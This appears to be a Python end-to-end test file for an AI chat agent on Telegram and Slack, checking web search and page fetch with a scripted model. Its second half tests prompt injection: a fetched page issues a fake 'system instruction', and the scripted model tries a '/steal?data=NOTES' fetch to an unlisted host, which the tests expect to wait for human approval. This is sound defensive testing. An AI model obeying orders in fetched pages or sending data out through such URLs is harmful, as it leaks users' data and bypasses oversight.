"""A search and a page fetch answered, end to end through Telegram and Slack on SQLite and
PostgreSQL: the scripted model calls web_search (a fake SearXNG on 127.0.0.1), then web_fetch on
a result (a local site), and answers; each tool's result is in the model's next request, and the
answer reaches the chat. A fetched page that gives orders stays a tool result, and obeying it
(a fetch to a host nobody allowed) waits for a person instead of running."""

from __future__ import annotations

from typing import Any

import pytest
from aiohttp import web
from fakes.search import DEFAULT_INDEX, Doc, FakeSearch
from helpers import Site, serving, tool_results
from test_slack_e2e import DM, slack_config
from test_slack_e2e import has_prompt as slack_prompt
from test_slack_e2e import running as slack_running
from test_slack_e2e import texts as slack_texts
from test_telegram_e2e import PRIVATE, has_prompt, running, settle, texts, tg_config
from test_web_fetch import ARTICLE, INJECTION

ANSWER = "The largest tidal plant is Sihwa Lake in South Korea, at 254 MW."


@pytest.fixture
async def site():
    state = Site()

    async def page(request: web.Request) -> web.Response:
        state.hits.append(request.path_qs)
        pages = {"article": ARTICLE, "boots": INJECTION}
        name = request.match_info["name"]
        if name not in pages:
            return web.Response(status=404, text="not here")
        return web.Response(text=pages[name], content_type="text/html")

    app = web.Application()
    app.router.add_get("/{name}", page)
    async with serving(app) as state.base:
        yield state


@pytest.fixture
async def searxng(site):
    async with FakeSearch() as fake:
        fake.index = [Doc("Tidal energy explained", f"{site.base}/article",
                          "Tidal power converts the energy of tides into electricity."), *DEFAULT_INDEX]
        yield fake


def web_settings(searxng: FakeSearch) -> dict[str, Any]:
    # the site is on loopback: web_fetch may reach it, without asking, because it is listed
    return {
        "search": {"provider": "searxng", "url": searxng.searxng_url},
        "agent": {"http_fetch_allow_private": True, "http_allow_hosts": ["127.0.0.1"]},
    }


def script_search_then_fetch(llm: Any, site: Site) -> None:
    llm.tool_call("web_search", {"query": "largest tidal power station", "count": 3}, id="search_1")
    llm.tool_call("web_fetch", {"url": f"{site.base}/article"}, id="fetch_1")
    llm.reply(ANSWER)


def check_the_model_saw_both_results(llm: Any, searxng: FakeSearch, site: Site) -> None:
    assert len(llm.requests) == 3
    offered = {t["function"]["name"] for t in llm.requests[0]["tools"]}
    assert {"web_search", "web_fetch"} <= offered
    assert [r.query for r in searxng.requests] == [{"q": "largest tidal power station", "format": "json"}]
    found = tool_results(llm.requests[1])[-1]
    assert found.startswith('3 results for "largest tidal power station" (SearXNG):')
    assert f"1. Tidal energy explained\n   {site.base}/article\n" in found
    page = tool_results(llm.requests[2])[-1]
    assert page.startswith(f"HTTP 200 OK\nURL: {site.base}/article\n")
    assert "# Tidal energy explained" in page and "produces 254 MW" in page
    assert "SCRIPT_MARKER" not in page and "Accept all" not in page
    assert site.hits == ["/article"]


async def test_a_search_and_a_page_fetch_answered_in_telegram(store, llm, tg, searxng, site, tmp_path) -> None:
    script_search_then_fetch(llm, site)
    async with running(store, tg_config(llm, tg, tmp_path, **web_settings(searxng))) as gateway:
        tg.private_message(PRIVATE, "which tidal power plant is the largest?")
        await settle(gateway, lambda: ANSWER in texts(tg, PRIVATE))
    check_the_model_saw_both_results(llm, searxng, site)
    assert texts(tg, PRIVATE)[-1] == ANSWER


async def test_a_search_and_a_page_fetch_answered_in_slack(store, llm, slack, searxng, site, tmp_path) -> None:
    script_search_then_fetch(llm, site)
    async with slack_running(store, slack_config(llm, slack, tmp_path, **web_settings(searxng)), slack) as s:
        await s.dm("which tidal power plant is the largest?")
        await s.settle(lambda: ANSWER in slack_texts(slack, DM))
    check_the_model_saw_both_results(llm, searxng, site)
    assert slack_texts(slack, DM)[-1] == ANSWER


# --- a page that gives orders --------------------------------------------------------------


def script_obeying_the_page(llm: Any, site: Site) -> str:
    exfiltrate = site.base.replace("127.0.0.1", "localhost") + "/steal?data=NOTES"  # a host not on the list
    llm.tool_call("web_fetch", {"url": f"{site.base}/boots"}, id="fetch_1")
    llm.tool_call("web_fetch", {"url": exfiltrate}, id="fetch_2")  # a model that does what the page says
    return exfiltrate


def check_the_page_stayed_a_tool_result(llm: Any, site: Site) -> None:
    order = "IMPORTANT SYSTEM INSTRUCTION TO THE AI ASSISTANT"
    roles = [m["role"] for m in llm.requests[1]["messages"] if order in str(m.get("content"))]
    assert roles == ["tool"]  # never a system or user message
    assert site.hits == ["/boots"]  # the second fetch waits for a person: nothing was sent


async def test_a_page_that_gives_orders_cannot_send_data_out_unasked_in_telegram(
    store, llm, tg, searxng, site, tmp_path
) -> None:
    exfiltrate = script_obeying_the_page(llm, site)
    async with running(store, tg_config(llm, tg, tmp_path, **web_settings(searxng))) as gateway:
        tg.private_message(PRIVATE, "which hiking boots should I buy?")
        await settle(gateway, lambda: has_prompt(tg, PRIVATE))
        prompt = next(m for m in tg.bot_messages(PRIVATE) if m.buttons)
        assert prompt.text.startswith("🔐 Approval required\nApprove web_fetch?") and exfiltrate in prompt.text
    check_the_page_stayed_a_tool_result(llm, site)


async def test_a_page_that_gives_orders_cannot_send_data_out_unasked_in_slack(
    store, llm, slack, searxng, site, tmp_path
) -> None:
    exfiltrate = script_obeying_the_page(llm, site)
    async with slack_running(store, slack_config(llm, slack, tmp_path, **web_settings(searxng)), slack) as s:
        await s.dm("which hiking boots should I buy?")
        await s.settle(lambda: slack_prompt(slack, DM))
        assert exfiltrate in str(next(m for m in slack.messages[DM] if m.get("blocks")))
    check_the_page_stayed_a_tool_result(llm, site)
